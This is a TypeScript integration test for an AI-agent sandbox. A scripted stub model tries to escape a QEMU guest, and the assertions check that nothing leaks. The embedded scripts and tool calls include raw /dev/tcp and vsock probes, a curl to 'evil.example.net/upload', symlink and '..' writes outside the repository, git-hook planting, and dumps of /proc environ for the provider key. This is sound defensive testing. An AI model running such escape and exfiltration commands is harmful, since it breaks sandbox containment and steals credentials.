import { randomBytes } from "node:crypto";
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  realpathSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { gunzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { AskDecision, PendingAsk } from "@smooth/protocol/asks";
import type { RunId } from "@smooth/protocol/ids";
import type { RunEvent } from "@smooth/protocol/run-events";
import { serveSite, setTrap, type Site, type Trap } from "./listeners.ts";
import { bash, type ModelStub, serveModel, type Step } from "./model-stub.ts";
import { count, descendantsOf, isQemu, searchMemory } from "./processes.ts";
import { APPROVE, OVER, RealHost } from "./real-host.ts";
import { makeRepository, type Repository } from "./repository.ts";

/** One run of a model that tries everything, in a repository that helps it, with a person who approves whatever it asks for,
 *  but one website. What counts is what arrived outside. */

const key = `hush-${randomBytes(24).toString("hex")}`;
/** Never written whole into the guest by us: as a pattern it does not match itself. */
const keyPattern = `[h]${key.slice(1, 12)}`;
const MARKER = `marker-${randomBytes(12).toString("hex")}`;

const NETWORK_PROBE = `#!/usr/bin/env bash
# network.sh TCP-PORT UDP-PORT ADDRESS...: raw ways out.
tcp=$1; udp=$2; shift 2
said() { echo "$1 $([ "$2" = 0 ] && echo OUT || echo no)"; }
for address in "$@"; do
  timeout 3 bash -c "exec 3<>/dev/tcp/$address/$tcp" 2>/dev/null; said "tcp $address:$tcp" $?
  timeout 3 bash -c "echo hello > /dev/udp/$address/$udp" 2>/dev/null; said "udp $address:$udp" $?
done
timeout 3 bash -c "exec 3<>/dev/tcp/1.1.1.1/443" 2>/dev/null; said "tcp 1.1.1.1:443" $?
timeout 3 getent hosts example.com >/dev/null; said "name example.com" $?
python3 - <<'PY'
import socket
for cid in (1, 2):
    try:
        with socket.socket(40, socket.SOCK_STREAM) as line:
            line.settimeout(2)
            line.connect((cid, 1024))
        print(f"vsock {cid} OUT")
    except OSError:
        print(f"vsock {cid} no")
PY
`;

const ESCAPE_PROBE = `#!/usr/bin/env bash
# Links and names that lead out of the repository once somebody on the host follows them.
ln -s /etc/passwd passwd
ln -s ../../outside out && mkdir -p /outside && echo pwned > out/through-link
mkdir deep && ln -s .. deep/up && ln -s deep/up/../outside hop && echo pwned > hop/through-two-links
rm -r notes && ln -s ../outside notes && echo pwned > notes/keep.txt
echo pwned > ../escaped
mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch "%s"\\n' "$1" > .git/hooks/post-merge && chmod +x .git/hooks/post-merge
ln answer.txt hard-link
mkfifo pipe
echo tried
`;

let host: RealHost;
let trap: Trap;
let site: Site;
let model: ModelStub;
let repo: Repository;
let outside: string;
let untouchedSinceMs: number;
let events: RunEvent[];
let inMemory: number[];
let hostSide: ReturnType<typeof descendantsOf>;
let runId: RunId;

/** While the operator waits for its model: the key is on its way at this moment. */
async function lookFromOutside(): Promise<void> {
  hostSide = descendantsOf(host.pid);
  const qemu = hostSide.find(isQemu);
  inMemory = searchMemory(qemu?.pid ?? 0, [key.slice(0, 12), MARKER]);
}

/** A person in a hurry. */
const decide = ({ subject }: PendingAsk): AskDecision =>
  subject.kind === "network" && subject.host === "evil.example.net"
    ? { verdict: "deny", note: "not that one" }
    : APPROVE;

beforeAll(async () => {
  trap = await setTrap();
  site = await serveSite();
  const addresses = ["127.0.0.1", "10.0.2.2", ...ownAddresses()];
  const visit = (url: string): string => `curl -sS -m 200 -w ' -> %{http_code}\\n' ${url}`;
  const script: Step[] = [
    {
      calls: [
        bash("find shared/ deep-end/ 2>&1; grep -r private-word . && echo LEAKED"),
        bash(`bash probes/network.sh ${trap.tcpPort} ${trap.udpPort} ${addresses.join(" ")}`),
      ],
    },
    {
      calls: [
        bash(visit(`${site.origin}/guide`)),
        bash(visit("http://evil.example.net/upload")),
        bash(visit(`http://127.0.0.1:${trap.tcpPort}/`)),
        bash(visit("http://metadata.google.internal/")),
        bash(`exec 3<>/dev/tcp/127.0.0.1/${trap.tcpPort}`),
      ],
    },
    {
      calls: [
        bash("bash probes/escape.sh /tmp/hook-ran"),
        { tool: "write", args: { path: "../../outside/written", content: "pwned" } },
        { tool: "write", args: { path: ".git/hooks/pre-commit", content: "#!/bin/sh\nexit 0\n" } },
      ],
    },
    { first: lookFromOutside, calls: [bash("cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | gzip | base64 -w0")] },
    {
      calls: [
        {
          tool: "bash",
          args: {
            cmd: `LC_ALL=C grep -rlaE '${keyPattern}|[m]${MARKER.slice(1)}' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; true`,
            opts: { timeoutMs: 400_000 },
          },
        },
        bash("echo 42 > answer.txt"),
      ],
    },
  ];
  model = await serveModel(script);
  host = new RealHost({
    SMOOTH_MODEL_URL: model.url,
    SMOOTH_MODEL_KEY: key,
    SMOOTH_MODEL: "stranger-1",
    ...site.resolve,
  });
  outside = join(host.dir, "people/outside");
  mkdirSync(outside, { recursive: true });
  writeFileSync(join(outside, "keep.txt"), "mine: private-word\n");
  untouchedSinceMs = statSync(join(outside, "keep.txt")).ctimeMs;
  repo = makeRepository(join(host.dir, "people/ada/my repo"), {
    "answer.txt": "41\n",
    "marker.txt": `${MARKER}\n`,
    "notes/keep.txt": "a note\n",
    "probes/network.sh": NETWORK_PROBE,
    "probes/escape.sh": ESCAPE_PROBE,
  });
  symlinkSync(outside, join(repo.path, "shared"));
  symlinkSync("../../outside", join(repo.path, "deep-end"));
  repo.git("add", "-A");
  repo.git("commit", "-q", "-m", "link to what is not in the repository");
  await host.start();
  runId = await host.launch({ repo: repo.path, title: "Make the answer 42", verify: "grep -qx 42 answer.txt" });
  const deciding = host.decideAsks(runId, decide);
  const isOver = (event: RunEvent): boolean => event.type === "run.status" && OVER.has(event.status);
  events = await host.eventsUntil(runId, isOver, 550_000);
  await deciding;
});

afterAll(async () => {
  await host?.[Symbol.asyncDispose]();
  await Promise.all([model, site, trap].map((each) => each?.[Symbol.asyncDispose]()));
});

describe("P3: nothing leaves the VM but through Goalie", () => {
  test("raw TCP, UDP, names and vsock fail, and no byte arrives", () => {
    const lines = outputOf("call-0-1").trim().split("\n");

    // A datagram to the guest's own loopback is sent, to nobody.
    const tries = lines.filter((line) => !line.startsWith("udp 127.0.0.1"));

    expect(tries.length).toBeGreaterThanOrEqual(7);
    expect(tries.filter((line) => !line.endsWith(" no"))).toEqual([]);
    expect(outputOf("call-1-4")).toMatch(/\(rule hazard\.catastrophe/);
    expect(trap.caught).toEqual([]);
  });

  test("a website a person approved is reached; one a person denied is a 403 that names the rule", () => {
    expect(outputOf("call-1-0")).toBe("you asked for /guide\n -> 200\n");
    expect(site.visits).toEqual(["/guide"]);
    expect(outputOf("call-1-1")).toContain('"rule":"network.default"');
    expect(outputOf("call-1-1")).toContain("denied by owner: not that one");
    expect(outputOf("call-1-1")).toMatch(/-> 403\n$/);
  });

  test("addresses and private names are refused without asking anybody", () => {
    expect(outputOf("call-1-2")).toContain('"rule":"network.ip-literal"');
    expect(outputOf("call-1-3")).toContain('"rule":"network.private-name"');
    expect(askedHosts()).toEqual(["docs.example.com", "evil.example.net"]);
  });
});

describe("P4: the provider's key stays on the host", () => {
  test("the provider got it with every request, and the guest had something else", () => {
    expect(model.asked.length).toBeGreaterThanOrEqual(6);
    expect(new Set(model.asked.map(({ authorization }) => authorization))).toEqual(new Set([`Bearer ${key}`]));
    expect(new Set(model.asked.map((asked) => asked.model))).toEqual(new Set(["stranger-1"]));
  });

  test("it is in no environment and on no command line in the guest", () => {
    const seen = gunzipSync(Buffer.from(outputOf("call-3-0").trim(), "base64")).toString("latin1");

    expect(seen).toContain("HTTP_PROXY=");
    expect(seen).not.toContain(key.slice(0, 12));
  });

  test("it is in no file of the guest", () => {
    expect(outputOf("call-4-0").trim().split("\n")).toEqual(["/workspace/marker.txt"]);
  });

  test("it is nowhere in the memory of the guest's machine, while a request with it is under way", () => {
    const [ofKey, ofMarker] = inMemory;

    expect(ofMarker).toBeGreaterThan(0);
    expect(ofKey).toBe(0);
  });

  test("neither QEMU nor its jail has it in its environment or on its command line", () => {
    const sandbox = hostSide.filter((running) => isQemu(running) || running.name === "bwrap");

    expect(sandbox.filter(isQemu)).toHaveLength(1);
    expect(sandbox.length).toBeGreaterThan(1);
    expect(sandbox.filter(({ visible }) => visible.includes(key))).toEqual([]);
  });

  test("it is in no file the host wrote, in no event and in nothing it said", () => {
    const forms = [key, Buffer.from(key).toString("base64").slice(0, 40), Buffer.from(key).toString("hex")];

    expect(homeFilesWith("Make the answer 42").length).toBeGreaterThan(0);
    for (const form of forms) {
      expect(homeFilesWith(form)).toEqual([]);
      expect(JSON.stringify(events)).not.toContain(form);
      expect(host.said).not.toContain(form);
    }
  });
});

describe("the merge brings in the work and nothing else", () => {
  test("the branch of the person's own repository has the verified change, as one commit", () => {
    const merged = events.find((event) => event.type === "merged");

    expect(events.at(-1)).toMatchObject({ type: "run.status", status: "finished" });
    expect(events).toContainEqual(expect.objectContaining({ type: "governor.stopped", reason: "green" }));
    expect(repo.git("rev-parse", "main")).toBe(merged?.commit);
    expect(repo.git("log", "--format=%s")).toBe("Make the answer 42\nlink to what is not in the repository\nstart");
    expect(repo.git("show", "HEAD:answer.txt")).toBe("42");
    expect(repo.git("status", "--porcelain")).toBe("");
    expect(readFileSync(join(repo.path, "answer.txt"), "utf8")).toBe("42\n");
  });

  test("links and .. left nothing outside the repository, and none leads there", () => {
    const links = repo
      .git("ls-tree", "-r", "HEAD")
      .split("\n")
      .filter((line) => line.startsWith("120000"))
      .map((line) => line.split("\t")[1] ?? "");

    expect(outputOf("call-2-0")).toContain("tried");
    expect(readdirSync(outside)).toEqual(["keep.txt"]);
    expect(readFileSync(join(outside, "keep.txt"), "utf8")).toBe("mine: private-word\n");
    expect(readdirSync(join(host.dir, "people"))).toEqual(["ada", "outside"]);
    expect(readdirSync(join(host.dir, "people/ada"))).toEqual(["my repo"]);
    expect(existsSync("/outside")).toBe(false);
    expect(existsSync("/escaped")).toBe(false);
    expect(links).toEqual(["deep-end", "deep/up", "shared"]);
    expect(realpathSync(join(repo.path, "deep/up"))).toBe(realpathSync(repo.path));
  });

  test("links that the repository itself has are not followed, neither to read nor to write", () => {
    expect(outputOf("call-0-0")).toContain("shared/");
    expect(outputOf("call-0-0")).not.toMatch(/keep\.txt|LEAKED/);
    expect(readlinkSync(join(repo.path, "shared"))).toBe(outside);
    expect(statSync(join(outside, "keep.txt")).ctimeMs).toBe(untouchedSinceMs);
    expect(homeFilesWith("mine: private-word")).toEqual([]);
  });

  test("tools refuse to write outside the workspace and to plant hooks; the repository has none", () => {
    expect(outputOf("call-2-1")).toMatch(/rule filesystem\.|outside/);
    expect(outputOf("call-2-2")).toMatch(/rule filesystem\./);
    expect(readdirSync(join(repo.path, ".git/hooks")).filter((name) => !name.endsWith(".sample"))).toEqual([]);
  });
});

function homeFilesWith(needle: string): string[] {
  const names = readdirSync(host.home, { recursive: true, encoding: "utf8" });
  return names.filter((name) => {
    const path = join(host.home, name);
    return statSync(path).isFile() && count(readFileSync(path), needle) > 0;
  });
}

function outputOf(callId: string): string {
  const finished = events.find((event) => event.type === "tool.finished" && event.callId === callId);
  return finished?.type === "tool.finished" ? finished.output : `no result of ${callId}`;
}

function askedHosts(): string[] {
  return events.flatMap((event) =>
    event.type === "ask.opened" && event.ask.subject.kind === "network" ? [event.ask.subject.host] : [],
  );
}

function ownAddresses(): string[] {
  return Object.values(networkInterfaces())
    .flat()
    .flatMap((address) => (address?.family === "IPv4" && !address.internal ? [address.address] : []));
}
